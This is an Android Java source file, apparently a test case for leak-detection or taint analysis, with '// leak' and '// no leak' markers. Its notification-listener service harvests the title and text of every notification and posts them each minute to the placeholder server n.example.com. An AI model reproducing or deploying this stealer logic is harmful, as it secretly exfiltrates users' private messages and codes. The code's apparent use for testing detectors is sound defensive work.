package stealers;

import android.app.Notification;
import android.content.*;
import android.os.Bundle;
import android.service.notification.*;

import org.json.*;

import java.io.*;
import java.net.*;
import java.util.*;

/** Notifications wait in the preferences until a timer takes them away. */
public class Bells extends NotificationListenerService {
    static SharedPreferences queue(Context c) {
        return c.getSharedPreferences("q", MODE_PRIVATE);
    }

    @Override
    public void onCreate() {
        super.onCreate();
        new Timer()
                .schedule(
                        new TimerTask() {
                            @Override
                            public void run() {
                                drain();
                            }
                        },
                        1000,
                        60000);
    }

    @Override
    public void onNotificationPosted(StatusBarNotification n) {
        Bundle x = n.getNotification().extras;
        try {
            JSONObject o = new JSONObject();
            o.put("p", n.getPackageName());
            o.put("t", x.getString(Notification.EXTRA_TITLE));
            CharSequence text = x.getCharSequence("android.text");
            if (text != null) o.put("b", text.toString());
            Set<String> s = new HashSet<String>(queue(this).getStringSet("items", new HashSet<String>()));
            s.add(o.toString());
            queue(this).edit().putStringSet("items", s).putInt("count", s.size()).putString("state", "new").apply();
        } catch (JSONException e) {
        }
    }

    void drain() {
        Set<String> all = queue(this).getStringSet("items", null);
        if (all == null) return;
        try {
            HttpURLConnection c = (HttpURLConnection) new URL("https://n.example.com/q").openConnection();
            c.setDoOutput(true);
            OutputStreamWriter w = new OutputStreamWriter(c.getOutputStream());
            w.write("["); // no leak
            for (String one : all) w.append(one); // leak
            w.write(queue(this).getString("state", "")); // no leak
            w.close();
            queue(this).edit().remove("items").commit();
        } catch (IOException e) {
        }
    }
}
